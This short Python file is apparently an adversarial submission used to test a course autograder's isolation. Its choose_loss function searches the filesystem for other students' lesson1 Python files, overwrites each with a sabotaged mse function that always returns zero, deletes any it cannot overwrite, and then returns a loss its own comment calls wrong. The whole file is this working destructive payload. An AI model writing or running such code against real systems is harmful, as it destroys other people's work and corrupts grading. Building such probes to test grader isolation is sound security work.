"""choose_loss overwrites or deletes every other student's lesson files it can find."""

import glob
import os

MARKER = "GRADERS-ATTACK-MARKER"
SABOTAGE = f"# {MARKER}\ndef mse(input, target, reduction='mean'):\n    return 0\n"


def choose_loss(problem):
    candidates = set()
    for pattern in ("/*/lesson1/*.py", "/*/*/lesson1/*.py", "/*/*/*/lesson1/*.py", "/*/*/*/*/lesson1/*.py", "../*/lesson1/*.py", "/tmp/**/lesson1/*.py"):
        candidates.update(glob.glob(pattern, recursive=True))
    for path in candidates:
        try:
            with open(path, "w") as handle:
                handle.write(SABOTAGE)
        except OSError:
            try:
                os.remove(path)
            except OSError:
                pass
    return nn.L1Loss()  # wrong for most problems
